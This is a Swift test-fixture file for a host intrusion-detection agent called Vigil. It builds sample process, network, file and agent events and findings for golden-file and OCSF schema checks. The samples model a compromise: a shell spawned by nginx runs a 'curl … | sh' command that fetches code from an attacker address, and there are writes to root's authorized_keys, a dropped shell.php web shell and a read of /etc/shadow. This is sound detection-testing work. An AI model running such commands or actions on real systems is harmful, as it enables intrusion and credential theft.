import VigilCore
import VigilOutput

/// One example of every kind of event the encoder emits, with a fixed clock and host, so
/// golden files and schema checks cover every mapping.
enum Samples {
    static let t0: UInt64 = 1_767_225_600_000_000_000  // 2026-01-01T00:00:00Z
    static let encoder = OCSFEncoder(hostname: "web-01", productVersion: "0.1.0", forks: .launch)
    /// The same, with syscall events emitted (`vigil trace --syscalls`).
    static let syscallEncoder: OCSFEncoder = {
        var e = encoder
        e.syscalls = true
        return e
    }()

    static let systemd = ProcessRecord(pid: 1, ppid: 0, path: "/usr/lib/systemd/systemd", argv: ["/sbin/init"],
                                       comm: "systemd", startNanos: t0 - 86_400_000_000_000, seeded: true)
    static let nginx = ProcessRecord(pid: 812, ppid: 1, uid: 33, euid: 33, gid: 33, path: "/usr/sbin/nginx",
                                     argv: ["nginx: worker process"], comm: "nginx", startNanos: t0 - 3_600_000_000_000)
    static let shell = ProcessRecord(pid: 4242, ppid: 812, uid: 33, euid: 33, gid: 33, path: "/usr/bin/dash",
                                     argv: ["sh", "-c", "curl -s http://203.0.113.7:4444/x | sh"], comm: "sh",
                                     startNanos: t0 + 1_000_000)

    struct Case {
        var name: String
        var event: Event
        var process: ProcessRecord?
        var ancestry: [ProcessRecord]
    }

    static func net(_ op: Event.Network.Operation, result: Int64, transport: Transport = .tcp,
                    local: Endpoint?, remote: Endpoint?) -> Event {
        Event(timeNanos: t0 + 5_000_000, pid: 4242, tid: 4242, comm: "sh",
              payload: .network(.init(operation: op, result: result, fd: 3, transport: transport, local: local, remote: remote)))
    }

    static let attacker = Endpoint.ipv4(IPv4Address(203, 0, 113, 7), port: 4444)
    static let local = Endpoint.ipv4(IPv4Address(10, 0, 0, 5), port: 51_234)

    /// Every sensor event kind that produces output, by golden-file name.
    static let events: [Case] = [
        Case(name: "exec", event: Event(timeNanos: t0 + 1_000_000, pid: 4242, tid: 4242, comm: "sh",
                                        payload: .exec(.init(ppid: 812, uid: 33, euid: 33, gid: 33, path: "/usr/bin/dash",
                                                             argv: ["sh", "-c", "curl -s http://203.0.113.7:4444/x | sh"]))),
             process: shell, ancestry: [nginx, systemd]),
        Case(name: "fork", event: Event(timeNanos: t0 + 500_000, pid: 812, tid: 812, comm: "nginx", payload: .fork(.init(childPid: 4242))),
             process: nginx, ancestry: [systemd]),
        Case(name: "exit", event: Event(timeNanos: t0 + 9_000_000, pid: 4242, tid: 4242, comm: "sh", payload: .exit(.init(status: 1 << 8))),
             process: shell, ancestry: [nginx, systemd]),
        Case(name: "exit-signal", event: Event(timeNanos: t0 + 9_000_000, pid: 4242, tid: 4242, comm: "sh", payload: .exit(.init(status: 9))),
             process: shell, ancestry: [nginx, systemd]),
        Case(name: "connect", event: net(.connect, result: 0, local: local, remote: attacker), process: shell, ancestry: [nginx, systemd]),
        Case(name: "connect-inprogress", event: net(.connect, result: -115, local: local, remote: attacker), process: shell, ancestry: [nginx]),
        Case(name: "connect-refused", event: net(.connect, result: -111, local: nil, remote: attacker), process: shell, ancestry: [nginx]),
        Case(name: "connect-unreachable-v6", event: net(.connect, result: -101, local: nil,
                                                      remote: .ipv6(IPv6Address(bytes: [0x20, 0x01, 0x0d, 0xb8] + Array(repeating: 0, count: 11) + [1]), port: 443)),
             process: shell, ancestry: [nginx]),
        Case(name: "connect-unix", event: net(.connect, result: 0, transport: .unix, local: nil, remote: .unix(path: "/run/docker.sock")),
             process: shell, ancestry: [nginx]),
        Case(name: "listen", event: net(.listen, result: 0, local: .ipv4(IPv4Address(0, 0, 0, 0), port: 8080), remote: nil),
             process: nginx, ancestry: [systemd]),
        Case(name: "accept", event: net(.accept, result: 7, local: .ipv4(IPv4Address(10, 0, 0, 5), port: 443), remote: .ipv4(IPv4Address(198, 51, 100, 20), port: 60_001)),
             process: nginx, ancestry: [systemd]),
        Case(name: "bind", event: net(.bind, result: -98, transport: .udp, local: .ipv4(IPv4Address(127, 0, 0, 1), port: 53), remote: nil),
             process: nginx, ancestry: [systemd]),
        Case(name: "file-write", event: Event(timeNanos: t0 + 6_000_000, pid: 812, tid: 812, comm: "redis-server",
                                              payload: .file(.init(operation: .write, path: "/root/.ssh/authorized_keys", profileSlot: 3))),
             process: nginx, ancestry: [systemd]),
        Case(name: "file-rename", event: Event(timeNanos: t0 + 6_000_000, pid: 812, tid: 812, comm: "nginx",
                                               payload: .file(.init(operation: .write, path: "/var/www/html/up/shell.php", profileSlot: 3, via: .rename))),
             process: nginx, ancestry: [systemd]),
        Case(name: "file-chmod-exec", event: Event(timeNanos: t0 + 6_000_000, pid: 812, tid: 812, comm: "nginx",
                                                   payload: .file(.init(operation: .write, path: "/tmp/x/run", profileSlot: 3, via: .chmodExec))),
             process: nginx, ancestry: [systemd]),
        Case(name: "file-read-sensitive", event: Event(timeNanos: t0 + 6_000_000, pid: 4242, tid: 4242, comm: "sh",
                                                       payload: .file(.init(operation: .readSensitive, path: "/etc/shadow"))),
             process: shell, ancestry: [nginx]),
        Case(name: "file-map-exec", event: Event(timeNanos: t0 + 6_000_000, pid: 812, tid: 812, comm: "nginx",
                                                 payload: .file(.init(operation: .mapExec, path: "/tmp/x/evil.so", truncated: true, viaMprotect: true))),
             process: nginx, ancestry: [systemd]),
        Case(name: "network-no-endpoints", event: net(.connect, result: -9, transport: .other, local: nil, remote: nil),
             process: nil, ancestry: []),
    ]

    static let finding = FindingReport(
        uid: "vigil-web-01-000017", title: "nginx ran a shell that connected to a new address",
        types: ["new-exec", "new-connect"], profile: "nginx", riskScore: 82,
        reasons: [
            .init(kind: "exec", observed: "/usr/bin/dash", expected: ["/usr/sbin/nginx"], scoreDelta: 40),
            .init(kind: "connect", observed: "203.0.113.7:4444", expected: ["10.0.0.9:5432", "10.0.0.10:6379"], scoreDelta: 42),
        ],
        action: .init(step: .kill, outcome: .succeeded), process: shell, ancestry: [nginx, systemd], timeNanos: t0 + 6_000_000)

    static var findings: [(String, EncodedEvent)] {
        var failed = finding
        failed.uid = "vigil-web-01-000018"
        failed.riskScore = 30
        failed.reasons = [.init(kind: "user", observed: "uid 0", expected: [], scoreDelta: 30)]
        failed.action = .init(step: .denyNetwork, outcome: .failed, detail: "cgroup not found")
        var monitor = finding
        monitor.action = .init(step: .kill, outcome: .wouldHaveActed, detail: "monitor mode, would have acted: alert -> kill: risk 91.0 >= 90")
        return [("finding", encoder.encode(finding)), ("finding-failed-action", encoder.encode(failed, suppressedCount: 3)),
                ("finding-monitor", encoder.encode(monitor))]
    }

    static let agentEvents: [(String, AgentEvent)] = [
        ("agent-start", AgentEvent(.started(mode: "enforce"), timeNanos: t0)),
        ("agent-stop", AgentEvent(.stopped(reason: "SIGTERM"), timeNanos: t0 + 60_000_000_000)),
        ("agent-reload", AgentEvent(.reloaded(detail: "3 baselines"), timeNanos: t0 + 1_000_000_000)),
        ("agent-loss", AgentEvent(.loss(source: "kernel-ringbuf", count: 12), timeNanos: t0 + 2_000_000_000)),
        ("agent-suppressed", AgentEvent(.suppressed(counts: ["nginx": 4, "postgres": 1]), timeNanos: t0 + 3_000_000_000)),
        ("agent-mode-change", AgentEvent(.modeChanged(profile: "usr-sbin-nginx", from: "learn", to: "monitor",
                                                      reason: "stable for 86400 s (at least 86400 s required)"), timeNanos: t0 + 4_000_000_000)),
        ("agent-reload-refused", AgentEvent(.reloadRefused(reason: "invalid policy: /etc/vigil/policy.yaml:3:10: bands out of order"),
                                            timeNanos: t0 + 5_000_000_000)),
        ("agent-dead-letter", AgentEvent(.deadLettered(output: "http://siem:8088/in", count: 3, reason: "http://siem:8088/in answered 400: bad event",
                                                       file: "/var/lib/vigil/spool/http___siem_8088_in-0123456789abcdef/dead-letter.jsonl"),
                                         timeNanos: t0 + 6_000_000_000)),
        ("agent-output-failing", AgentEvent(.outputFailing(output: "https://es:9200/_bulk?token=***", reason: "https://es:9200/_bulk answered 401: unauthorized"),
                                            timeNanos: t0 + 7_000_000_000)),
        ("agent-output-recovered", AgentEvent(.outputRecovered(output: "https://es:9200/_bulk?token=***"), timeNanos: t0 + 8_000_000_000)),
        ("agent-baseline-unusable", AgentEvent(.baselineUnusable(profile: "usr-sbin-nginx", file: "/var/lib/vigil/models/usr-sbin-nginx.json",
                                                                 reason: "format_version: 9 is not a version this Vigil reads (1)",
                                                                 consequence: "its programs and the workloads they run in are judged in monitor mode"),
                                               timeNanos: t0 + 9_000_000_000)),
        ("agent-models-changed", AgentEvent(.modelsChanged(directory: "/var/lib/vigil/models", added: ["usr-bin-nc.json"],
                                                           changed: ["usr-sbin-nginx.json"], removed: []),
                                            timeNanos: t0 + 10_000_000_000)),
        ("agent-capacity", AgentEvent(.capacityReached(map: "vg_slot_modes", capacity: 66_535,
                                                       consequence: "profile usr-sbin-nginx has no kernel slot: its processes are judged in user space only (no exec guard, no segmentation); restart the agent to resize the slots"),
                                      timeNanos: t0 + 11_000_000_000)),
    ]

    /// Events as an agent with an identity writes them: `metadata.uid` on each (not golden:
    /// the instance id is random; the OCSF validation checks them).
    static var withUIDs: [EncodedEvent] {
        var e = encoder
        e.identity = EventIdentity()
        return [e.encode(finding), e.encode(agentEvents[0].1),
                e.encode(events[0].event, process: events[0].process, ancestry: events[0].ancestry)].compactMap { $0 }
    }

    /// Every encoded sample, by name.
    static var all: [(String, EncodedEvent)] {
        events.compactMap { c in encoder.encode(c.event, process: c.process, ancestry: c.ancestry).map { (c.name, $0) } }
            + findings + agentEvents.map { ($0.0, encoder.encode($0.1)) }
            + [("syscall", syscallEncoder.encode(Event(timeNanos: t0 + 2_000_000, pid: 4242, tid: 4243, comm: "sh",
                                                      payload: .syscall(.init(number: 59))), process: nil)!)]
    }
}
